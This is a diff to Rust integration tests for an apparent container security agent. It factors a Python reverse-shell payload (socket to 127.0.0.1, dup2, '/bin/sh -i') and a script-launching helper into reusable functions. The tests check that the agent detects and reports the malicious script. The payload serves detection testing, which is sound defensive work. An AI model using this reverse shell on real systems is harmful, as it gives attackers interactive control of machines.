@@ -324,20 +324,7 @@ fn python_dup2_subprocess_reverse_shell() {
 fn malicious_python_script_file_is_reported_with_its_contents() {
     let images = require_containers!();
     let (agent, c, _port) = reverse_shell(&images, &images.debian, "py-file", |p| {
-        let body = format!(
-            "import socket, subprocess, os\n\
-             s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n\
-             s.connect(('127.0.0.1', {p}))\n\
-             os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nos.dup2(s.fileno(), 2)\n\
-             subprocess.call(['/bin/sh', '-i'])\n"
-        );
-        sh(
-            "mkdir -p /opt/job && printf '%s' \"$0\" > /opt/job/sync.py && cd /opt/job && exec python3 sync.py"
-                .to_string(),
-        )
-        .into_iter()
-        .chain([body])
-        .collect()
+        python_file_in_job_dir("sync.py", py_reverse_shell(p))
     });
     let m = agent.wait_for(c.id(), MALICIOUS_PYTHON, |_| true);
     let script = &m["processes"][0]["script"];
@@ -352,6 +339,27 @@ fn malicious_python_script_file_is_reported_with_its_contents() {
         m["processes"][0]["args"],
         serde_json::json!(["python3", "sync.py"])
     );
+}
+
+/// A Python reverse shell to 127.0.0.1:`port` (socket + dup2 + `/bin/sh -i`).
+fn py_reverse_shell(port: u16) -> String {
+    format!(
+        "import socket, subprocess, os\n\
+         s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n\
+         s.connect(('127.0.0.1', {port}))\n\
+         os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nos.dup2(s.fileno(), 2)\n\
+         subprocess.call(['/bin/sh', '-i'])\n"
+    )
+}
+
+/// argv that writes `body` to /opt/job/`name` and runs it as `python3 name` from /opt/job.
+fn python_file_in_job_dir(name: &str, body: String) -> Vec<String> {
+    sh(format!(
+        "mkdir -p /opt/job && printf '%s' \"$0\" > /opt/job/{name} && cd /opt/job && exec python3 {name}"
+    ))
+    .into_iter()
+    .chain([body])
+    .collect()
 }
 
 fn sha256_hex(b: &[u8]) -> String {
@@ -962,20 +970,8 @@ fn python_payload_after_the_display_cap_is_reported() {
             ));
             i += 1;
         }
-        body.push_str(&format!(
-            "import socket, subprocess, os\n\
-             s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n\
-             s.connect(('127.0.0.1', {p}))\n\
-             os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nos.dup2(s.fileno(), 2)\n\
-             subprocess.call(['/bin/sh', '-i'])\n"
-        ));
-        sh(
-            "mkdir -p /opt/job && printf '%s' \"$0\" > /opt/job/settings.py && cd /opt/job && exec python3 settings.py"
-                .to_string(),
-        )
-        .into_iter()
-        .chain([body])
-        .collect()
+        body.push_str(&py_reverse_shell(p));
+        python_file_in_job_dir("settings.py", body)
     });
     let m = agent.wait_for(c.id(), MALICIOUS_PYTHON, |_| true);
     let script = &m["processes"][0]["script"];
